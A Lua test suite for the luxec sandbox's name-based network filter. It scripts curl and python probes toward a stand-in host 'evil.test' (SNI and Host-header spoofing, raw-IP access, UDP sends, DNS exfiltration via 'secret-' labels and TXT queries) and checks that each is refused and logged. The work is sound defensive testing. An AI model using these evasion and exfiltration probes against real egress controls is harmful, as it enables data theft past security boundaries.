-- Network by name, the transparent path: a program that ignores the proxy variables (curl
-- --noproxy '*', a python ssl socket) still reaches the allowed names on ports 443 and 80,
-- and nothing else. Its DNS queries are answered inside (an address per name, nothing looked
-- up); the name of a connection is the one its address was given for, checked against the TLS
-- server name (SNI) or the Host header. The test servers listen on port 443 and 80 of
-- addresses of the host's loopback of their own (so root only) and count what reaches them.
local H = require("helper")
local json = require("luxec.json")
local luxec = require("luxec")
local sandbox = require("luxec.sandbox")
local uv = require("luv")

local PATH = "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"
local NOBODY = 65534

local function have(tool)
  local r = luxec.run({ "sh", "-c", "command -v " .. tool }, { env = { PATH = PATH } })
  return r.output:match("^(/%S+)")
end

-- Two addresses of the host's loopback for this run: the allowed name's and the refused one's.
local tag = uv.os_getpid() % 200 + 20
local OK_ADDR, EVIL_ADDR = ("127.%d.77.1"):format(tag), ("127.%d.77.2"):format(tag)

-- A TCP server on addr:port counting connections; each gets `answer` and is closed.
local function counter(addr, port, answer)
  local s = { conns = 0, clients = {} }
  s.tcp = uv.new_tcp()
  local ok, err = s.tcp:bind(addr, port)
  if not ok then
    s.tcp:close()
    return nil, err
  end
  s.tcp:listen(16, function()
    local c = uv.new_tcp()
    s.tcp:accept(c)
    s.conns = s.conns + 1
    s.clients[#s.clients + 1] = c
    c:read_start(function(_, data)
      if not data then return c:is_closing() or c:close() end
      if answer then
        c:write(answer, function() if not c:is_closing() then c:close() end end)
      end
    end)
  end)
  function s.close()
    for _, c in ipairs(s.clients) do if not c:is_closing() then c:close() end end
    s.tcp:close()
  end
  return s
end

local HELLO = "HTTP/1.1 200 OK\r\nContent-Length: 6\r\nConnection: close\r\n\r\nplain\n"

local usable, why = H.sandbox_usable()
local skip = not usable and why
  or math.tointeger(uv.getuid()) ~= 0 and "the test servers need root (ports 443 and 80)"
  or not have("curl") and "curl is not installed"
  or not have("python3") and "python3 is not installed"
  or not have("openssl") and "openssl is not installed"

describe("network by name without the proxy variables", function()
  if skip then
    it("runs where it can", function() pending("skipped: " .. skip) end)
    return
  end
  local dir, tls, plain, evil, evil80
  setup(function()
    dir = H.tmpdir()
    local made = luxec.run({ "sh", "-c", table.concat({
      "set -e", "cd " .. dir, "mkdir www", "echo 'tls hello' > www/hello.txt",
      "openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 1 "
        .. "-keyout ca.key -out ca.pem -subj /CN=luxec-test-ca 2>/dev/null",
      "openssl req -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -keyout srv.key "
        .. "-out srv.csr -subj /CN=ok.test 2>/dev/null",
      "printf 'subjectAltName=DNS:ok.test,DNS:evil.test\\n' > ext",
      "openssl x509 -req -in srv.csr -CA ca.pem -CAkey ca.key -CAcreateserial -days 1 "
        .. "-out srv.pem -extfile ext 2>/dev/null" }, "\n") }, { env = { PATH = PATH } })
    assert(made.code == 0, made.output)
    H.write_file(dir .. "/server.py", table.concat({
      "import http.server, ssl, sys, functools",
      "class H(http.server.SimpleHTTPRequestHandler):",
      "    def log_message(self, fmt, *a):",
      "        sys.stdout.write('HIT %s %s\\n' % (self.headers.get('Host'), self.path))",
      "        sys.stdout.flush()",
      "h = functools.partial(H, directory=sys.argv[1] + '/www')",
      "srv = http.server.HTTPServer((sys.argv[2], 443), h)",
      "ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)",
      "ctx.load_cert_chain(sys.argv[1] + '/srv.pem', sys.argv[1] + '/srv.key')",
      "srv.socket = ctx.wrap_socket(srv.socket, server_side=True)",
      "print('UP', flush=True)",
      "srv.serve_forever()", "" }, "\n"))
    tls = assert(luxec.spawn({ "python3", dir .. "/server.py", dir, OK_ADDR },
      { env = { PATH = PATH } }))
    assert(tls:expect("UP", { timeout = 10 }))
    plain = assert(counter(OK_ADDR, 80, HELLO))
    evil = assert(counter(EVIL_ADDR, 443, HELLO))
    evil80 = assert(counter(EVIL_ADDR, 80, HELLO))
  end)
  teardown(function()
    if tls then tls:close() end
    for _, s in ipairs({ plain, evil, evil80 }) do s.close() end
    uv.run("nowait")
    H.rmtree(dir)
  end)

  local net = { allow = { "ok.test" }, resolve = { ["ok.test"] = OK_ADDR,
    ["evil.test"] = EVIL_ADDR } }

  it("answers names inside and reaches the allowed one on 443 (curl, python ssl) and 80",
    function()
    local r = luxec.run({ "sh", "-c", table.concat({
      "getent ahostsv4 ok.test | head -1",
      ("curl -sS --noproxy '*' --cacert %s/ca.pem https://ok.test/hello.txt"):format(dir),
      ("python3 -c 'import socket, ssl, sys; c = ssl.create_default_context(cafile=sys.argv[1]); "
        .. "s = c.wrap_socket(socket.create_connection((\"ok.test\", 443)), "
        .. "server_hostname=\"ok.test\"); s.sendall(b\"GET /hello.txt HTTP/1.0\\r\\n"
        .. "Host: ok.test\\r\\n\\r\\n\"); sys.stdout.write(s.makefile(\"rb\").read()"
        .. ".decode().split(\"\\r\\n\\r\\n\")[1])' %s/ca.pem"):format(dir),
      "curl -sS --noproxy '*' http://ok.test/p" }, "; ") }, { cwd = "/", timeout = 30,
      env = { PATH = PATH, HOME = "/tmp", http_proxy = "", https_proxy = "" },
      sandbox = { mode = "read-only", network = net } })
    assert.matches("^198%.18%.%d+%.%d+%s+STREAM ok%.test\ntls hello\ntls hello\nplain\n$",
      r.output)
    local hits = tls:read()
    local n = 0
    for _ in hits:gmatch("HIT ok.test /hello.txt") do n = n + 1 end
    assert.equals(2, n, hits)
    assert.equals(1, plain.conns)
    assert.same({ ["ok.test"] = 3 }, r.sandbox.network.allowed)
    assert.same({}, r.sandbox.network.refused)
  end)

  it("refuses a name not allowed, a server name other than the address's, and an address; "
    .. "none reaches a server, each is recorded with who asked", function()
    local before = plain.conns
    local r = luxec.run({ "sh", "-c", table.concat({
      ("curl -sS --noproxy '*' --cacert %s/ca.pem https://evil.test/x"):format(dir),
      "curl -sS --noproxy '*' http://evil.test/y",
      ("python3 -c 'import socket, ssl; c = ssl.create_default_context(); c.check_hostname = "
        .. "False; c.verify_mode = ssl.CERT_NONE; c.wrap_socket(socket.create_connection("
        .. "(\"ok.test\", 443)), server_hostname=\"evil.test\")' 2>&1 | tail -1"),
      "curl -sS --noproxy '*' http://" .. OK_ADDR .. "/z",
      ("python3 -c 'import socket; s = socket.create_connection((\"ok.test\", 80)); "
        .. "s.sendall(b\"GET http://evil.test/w HTTP/1.1\\r\\nHost: ok.test\\r\\n\\r\\n\"); "
        .. "print(s.recv(99).split(b\"\\r\\n\")[0].decode())'"),
      ("python3 -c 'import socket; s = socket.create_connection((\"ok.test\", 80)); "
        .. "s.sendall(b\"GET http://evil.test/v HTTP/1.0\\r\\n\\r\\n\"); "
        .. "print(s.recv(99).split(b\"\\r\\n\")[0].decode())'"),
      "true" }, "; ") }, { cwd = "/", timeout = 30,
      env = { PATH = PATH, HOME = "/tmp" }, sandbox = { mode = "read-only", network = net } })
    uv.run("nowait")
    assert.equals(0, evil.conns + evil80.conns)
    assert.equals(before, plain.conns)
    assert.matches("curl: %(35%)[^\n]*evil.test:443", r.output)
    assert.matches("luxec sandbox: http evil.test:80 refused: not in network.allow\n", r.output,
      1, true)
    local lines = {}
    for i, d in ipairs(r.sandbox.network.refused) do
      lines[i] = sandbox.describe(d):gsub("pid %d+", "pid N")
    end
    assert.same({
      "connect evil.test:443 refused: not in network.allow (pid N curl)",
      "http evil.test:80 refused: not in network.allow (pid N curl)",
      "connect ok.test:443 refused: the TLS server name names evil.test, not the name looked "
        .. "up (pid N python3)",
      "http " .. OK_ADDR .. ":80 refused: an IP address not in network.allow (pid N curl)",
      "http ok.test:80 refused: the Host header names \"ok.test\", not the request's "
        .. "\"evil.test\" (pid N python3)",
      "http ok.test:80 refused: the request's URI names evil.test, not the name looked up "
        .. "(pid N python3)",
    }, lines)
    assert.same({}, r.sandbox.network.allowed)
  end)
end)

describe("network by name: what leads nowhere is recorded", function()
  if skip then
    it("runs where it can", function() pending("skipped: " .. skip) end)
    return
  end
  -- A UDP server on addr:port counting the datagrams it gets.
  local function udp_counter(addr, port)
    local s = { got = 0 }
    s.udp = uv.new_udp()
    assert(s.udp:bind(addr, port))
    s.udp:recv_start(function(_, data) if data then s.got = s.got + 1 end end)
    function s.close() s.udp:close() end
    return s
  end

  it("refuses TCP to 53, UDP to 443 and 80 and to the proxy's port, with the transport in "
    .. "the record; an answered DNS query and an allowed connect are no record", function()
    local tcp53 = assert(counter(OK_ADDR, 53, HELLO))
    local udp443, udp80 = udp_counter(OK_ADDR, 443), udp_counter(OK_ADDR, 80)
    local udp3128 = udp_counter("127.0.0.1", 3128)
    local ok80 = assert(counter(OK_ADDR, 80, HELLO))
    local py = table.concat({
      "import socket, sys",
      "def tcp(a, p):",
      "    try: socket.create_connection((a, p), 3); print('tcp', p, 'connected')",
      "    except OSError as e: print('tcp', p, e.errno)",
      "def udp(a, p, msg=False):",
      "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)",
      "    try:",
      "        if msg: s.sendmsg([b'x'], [], 0, (a, p))",
      "        else: s.sendto(b'x', (a, p))",
      "        print('udp', p, 'sent')",
      "    except OSError as e: print('udp', p, e.errno)",
      "tcp(sys.argv[1], 53); udp(sys.argv[1], 443); udp('198.51.100.7', 80, True)",
      "udp('127.0.0.1', 3128)" }, "\n")
    local r = luxec.run({ "sh", "-c", "getent ahostsv4 ok.test | head -1; "
      .. "curl -sS --noproxy '*' http://ok.test/; python3 -c \"$0\" " .. OK_ADDR, py },
      { cwd = "/", timeout = 30, env = { PATH = PATH, HOME = "/tmp" },
        sandbox = { mode = "read-only", network = { allow = { "ok.test" },
          resolve = { ["ok.test"] = OK_ADDR } } } })
    uv.run("nowait")
    for _, s in ipairs({ tcp53, udp443, udp80, udp3128, ok80 }) do s.close() end
    assert.matches("^198%.18%.%d+%.%d+%s+STREAM ok%.test\nplain\ntcp 53 1\nudp 443 1\n"
      .. "udp 80 1\nudp 3128 1\n$", r.output)
    assert.same({ 0, 0, 0, 0, 1 }, { tcp53.conns, udp443.got, udp80.got, udp3128.got,
      ok80.conns })
    local lines = {}
    for _, d in ipairs(r.sandbox.denials) do
      if d.addr then lines[#lines + 1] = sandbox.describe(d):gsub("pid %d+", "pid N") end
    end
    local because = " refused: only the proxy leads out (network by name) (pid N python3)"
    assert.same({
      ("connect %s:53/tcp"):format(OK_ADDR) .. because,
      ("sendto %s:443/udp"):format(OK_ADDR) .. because,
      "sendmsg 198.51.100.7:80/udp" .. because,
      "sendto 127.0.0.1:3128/udp" .. because,
    }, lines)
    assert.same({ ["ok.test"] = 1 }, r.sandbox.network.allowed)
    assert.same({}, r.sandbox.network.refused)
  end)
end)

describe("network by name: no name leaves by DNS", function()
  local skip3 = skip or not have("unshare") and "unshare (util-linux) is not installed"
  if skip3 then
    it("runs where it can", function() pending("skipped: " .. skip3) end)
    return
  end
  it("answers TXT, ANY, AAAA and long names inside; the host's resolver sees only the names "
    .. "the proxy connects to", function()
    -- the host's resolver, for a luxec host whose /etc/resolv.conf names it: every name it is
    -- asked is kept, each answered NXDOMAIN
    local ns_addr = ("127.%d.77.3"):format(tag)
    local asked = {}
    local up = uv.new_udp()
    assert(up:bind(ns_addr, 53))
    up:recv_start(function(_, data, from)
      if not data or #data < 12 then return end
      local labels, pos = {}, 13
      while data:byte(pos) and data:byte(pos) > 0 do
        labels[#labels + 1] = data:sub(pos + 1, pos + data:byte(pos))
        pos = pos + data:byte(pos) + 1
      end
      asked[#asked + 1] = table.concat(labels, ".")
      up:send(data:sub(1, 2) .. "\x81\x83\0\1\0\0\0\0\0\0" .. data:sub(13, pos + 4),
        from.ip, from.port)
    end)
    local dir = H.tmpdir()
    H.write_file(dir .. "/resolv.conf", "nameserver " .. ns_addr .. "\n")
    H.write_file(dir .. "/dns.py", table.concat({
      "import socket, struct",
      "def q(name, qtype):",
      "    m = struct.pack('>HHHHHH', 7, 0x0100, 1, 0, 0, 0)",
      "    for l in name.split('.'): m += bytes([len(l)]) + l.encode()",
      "    m += b'\\0' + struct.pack('>HH', qtype, 1)",
      "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)",
      "    s.sendto(m, (open('/etc/resolv.conf').read().split()[1], 53))",
      "    a = s.recv(4096)",
      "    print(name[:12], qtype, a[3] & 15, struct.unpack('>H', a[6:8])[0])",
      "q('secret-' + 'a' * 56 + '.evil.test', 1)",
      "q('b' * 64 + '.evil.test', 1)",
      "q('txt-secret.evil.test', 16); q('any-secret.evil.test', 255)",
      "q('aaaa-secret.evil.test', 28)", "" }, "\n"))
    local code = ([[
      local luxec, json = require("luxec"), require("luxec.json")
      local r = luxec.run({"sh", "-c", "python3 %s/dns.py; "
        .. "curl -sS http://proxied-secret.evil.test/ 2>&1 | head -1; "
        .. "curl -sS --noproxy '*' https://transparent-secret.evil.test/ 2>/dev/null; "
        .. "curl -sS http://up.test/ 2>&1 | head -1"}, {cwd = "/", timeout = 30,
        env = {PATH = %q, HOME = "/tmp"}, sandbox = {mode = "read-only",
        network = {allow = {"ok.test", "up.test"}, resolve = {["ok.test"] = %q}}}})
      local refused = {}
      for i, d in ipairs(r.sandbox.network.refused) do
        refused[i] = require("luxec.sandbox").describe(d):gsub("pid %%d+", "pid N")
      end
      io.write(json.encode({output = r.output, refused = refused}), "\n")
    ]]):format(dir, PATH, OK_ADDR)
    local r = H.run({ cmd = "unshare", "-m", "--propagation", "private", "sh", "-c",
      'mount --bind "$0" /etc/resolv.conf && exec "$@"', dir .. "/resolv.conf", H.luxec,
      "-e", code }, { env = { "PATH=" .. PATH, "HOME=/tmp" }, timeout = 60000 })
    up:close()
    H.rmtree(dir)
    assert(not r.timed_out and r.code == 0, r.stderr)
    local res = json.decode(r.stdout)
    assert.equals(table.concat({ "secret-aaaaa 1 0 1", "bbbbbbbbbbbb 1 1 0",
      "txt-secret.e 16 0 0", "any-secret.e 255 0 0", "aaaa-secret. 28 0 0",
      "luxec sandbox: http proxied-secret.evil.test:80 refused: not in network.allow",
      "luxec sandbox: http up.test:80 failed: cannot resolve: EAI_NONAME", "" }, "\n"),
      res.output)
    assert.same({
      "http proxied-secret.evil.test:80 refused: not in network.allow (pid N curl)",
      "connect transparent-secret.evil.test:443 refused: not in network.allow (pid N curl)",
    }, res.refused)
    -- the host's resolver was asked for up.test alone (A and AAAA, maybe more than once)
    assert.is_true(#asked > 0, "the host's resolver was never asked: the check sees nothing")
    for _, name in ipairs(asked) do assert.equals("up.test", name) end
  end)

  it("refuses a name the host's resolver gives an address of the host's own (under \"*\")",
    function()
    local own
    for _, list in pairs(uv.interface_addresses()) do
      for _, a in ipairs(list) do
        if a.family == "inet" and not a.ip:match("^127%.") then own = own or a.ip end
      end
    end
    if not own then
      pending("skipped: the host has no IPv4 address but loopback")
      return
    end
    local srv = assert(counter(own, 0, HELLO))
    local port = srv.tcp:getsockname().port
    local dir = H.tmpdir()
    H.write_file(dir .. "/hosts", ("127.0.0.1 localhost\n%s own.test\n"):format(own))
    local code = ([[
      local luxec = require("luxec")
      local r = luxec.run({"curl", "-sS", "http://own.test:%d/"}, {cwd = "/", timeout = 20,
        env = {PATH = %q, HOME = "/tmp"}, sandbox = {mode = "read-only",
        network = {allow = {"*"}}}})
      io.write(r.output, require("luxec.sandbox").describe(r.sandbox.network.refused[1]), "\n")
    ]]):format(port, PATH)
    local r = H.run({ cmd = "unshare", "-m", "--propagation", "private", "sh", "-c",
      'mount --bind "$0" /etc/hosts && exec "$@"', dir .. "/hosts", H.luxec, "-e", code },
      { env = { "PATH=" .. PATH, "HOME=/tmp" }, timeout = 60000 })
    srv.close()
    H.rmtree(dir)
    assert(not r.timed_out and r.code == 0, r.stderr)
    local reason = ("resolves to %s (an address of this host: list the address to allow it)")
      :format(own)
    assert.equals(("luxec sandbox: http own.test:%d refused: %s\n"):format(port, reason)
      .. ("http own.test:%d refused: %s (pid N curl)\n"):format(port, reason),
      (r.stdout:gsub("pid %d+", "pid N")))
    assert.equals(0, srv.conns, "the host's own address was reached")
  end)
end)

describe("network by name without the proxy variables, as an unprivileged user", function()
  local skip2 = skip or not have("setpriv") and "setpriv (util-linux) is not installed"
  if skip2 then
    it("runs where it can", function() pending("skipped: " .. skip2) end)
    return
  end
  it("reaches the allowed name on 80 and records the refused one on 443", function()
    local ok80 = assert(counter(OK_ADDR, 80, HELLO))
    local evil443 = assert(counter(EVIL_ADDR, 443, HELLO))
    local code = ([[
      local luxec, json = require("luxec"), require("luxec.json")
      local r = luxec.run({"sh", "-c", "curl -sS --noproxy '*' http://ok.test/; "
        .. "curl -sS --noproxy '*' https://evil.test/ 2>/dev/null; echo $?"}, {cwd = "/",
        timeout = 20, env = {PATH = %q, HOME = "/tmp"}, sandbox = {mode = "read-only",
        network = {allow = {"ok.test"}, resolve = {["ok.test"] = %q, ["evil.test"] = %q}}}})
      local d = r.sandbox.network.refused[1]
      io.write(json.encode({output = r.output, allowed = r.sandbox.network.allowed,
        refused = require("luxec.sandbox").describe(d), userns = r.sandbox.layers.userns}),
        "\n")
    ]]):format(PATH, OK_ADDR, EVIL_ADDR)
    local r = H.run({ cmd = "setpriv", "--reuid=" .. NOBODY, "--regid=" .. NOBODY,
      "--clear-groups", H.luxec, "-e", code }, { env = { "PATH=" .. PATH, "HOME=/tmp" },
      timeout = 30000 })
    ok80.close()
    evil443.close()
    assert(not r.timed_out, "the unprivileged host did not end: " .. r.stderr)
    local res = json.decode(r.stdout)
    assert.is_true(res.userns)
    assert.equals("plain\n35\n", res.output)
    assert.same({ ["ok.test"] = 1 }, res.allowed)
    assert.matches("^connect evil.test:443 refused: not in network.allow %(pid %d+ curl%)$",
      res.refused)
    assert.same({ 1, 0 }, { ok80.conns, evil443.conns })
  end)
end)

describe("the transparent path's reading of DNS queries and TLS server names", function()
  local transparent = require("luxec.sandbox.transparent")
  it("answers an A query with the name's own address, every other query empty", function()
    local names = transparent.new()
    local function query(id, name, qtype)
      local q = string.pack(">I2I2I2I2I2I2", id, 0x0100, 1, 0, 0, 0)
      for label in name:gmatch("[^.]+") do q = q .. string.char(#label) .. label end
      return q .. "\0" .. string.pack(">I2I2", qtype, 1)
    end
    local a = transparent.dns_answer(names, query(7, "Ok.Test", 1))
    local q = query(7, "Ok.Test", 1)
    assert.equals(string.pack(">I2I2I2I2I2I2", 7, 0x8180, 1, 1, 0, 0) .. q:sub(13)
      .. string.pack(">I2I2I2I4I2BBBB", 0xc00c, 1, 1, 5, 4, 198, 18, 0, 2), a)
    assert.equals("198.18.0.2", transparent.address(names, "ok.test"))
    assert.equals("ok.test", transparent.name_of(names, "198.18.0.2"))
    assert.equals(string.pack(">I2I2I2I2I2I2", 8, 0x8180, 1, 0, 0, 0) .. query(8, "ok.test", 28)
      :sub(13), transparent.dns_answer(names, query(8, "ok.test", 28)))
    assert.is_nil(transparent.dns_answer(names, "short"))
    assert.equals(string.pack(">I2I2I2I2I2I2", 9, 0x8181, 0, 0, 0, 0), -- (FORMERR)
      transparent.dns_answer(names, query(9, "x.test", 1):sub(1, 20)))
  end)

  it("keeps a bounded table of names: past MAX_NAMES the oldest name's address is reused",
    function()
    local names = transparent.new()
    local saved = transparent.MAX_NAMES
    transparent.MAX_NAMES = 3
    finally(function() transparent.MAX_NAMES = saved end)
    local got = {}
    for i = 1, 5 do got[i] = transparent.address(names, "n" .. i .. ".test") end
    assert.same({ "198.18.0.2", "198.18.0.3", "198.18.0.4", "198.18.0.2", "198.18.0.3" }, got)
    assert.same({ "n4.test", "n5.test", "n3.test" }, { transparent.name_of(names, got[1]),
      transparent.name_of(names, got[2]), transparent.name_of(names, got[3]) })
    assert.same({ ["n3.test"] = "198.18.0.4", ["n4.test"] = "198.18.0.2",
      ["n5.test"] = "198.18.0.3" }, names.by_name)
  end)

  it("reads the server name of a real ClientHello (python's ssl), and only of one", function()
    local py = have("python3")
    if not py then
      pending("skipped: python3 is not installed")
      return
    end
    local r = luxec.run({ "python3", "-c", table.concat({
      "import ssl, sys",
      "c = ssl.create_default_context()",
      "i, o = ssl.MemoryBIO(), ssl.MemoryBIO()",
      "s = c.wrap_bio(i, o, server_hostname='Registry.Example.ORG')",
      "try: s.do_handshake()",
      "except ssl.SSLWantReadError: pass",
      "sys.stdout.write(o.read().hex())" }, "\n") }, { env = { PATH = PATH } })
    local hello = r.output:gsub("%x%x", function(h) return string.char(tonumber(h, 16)) end)
    assert.is_true(#hello > 100, r.output)
    assert.equals("registry.example.org", transparent.sni(hello))
    assert.is_nil(transparent.sni(hello:sub(1, 60))) -- (more bytes needed)
    assert.is_false(transparent.sni("GET / HTTP/1.1\r\n\r\n"))
    assert.is_false(transparent.sni(hello:sub(1, 5) .. ("\0"):rep(#hello - 5)))
  end)
end)
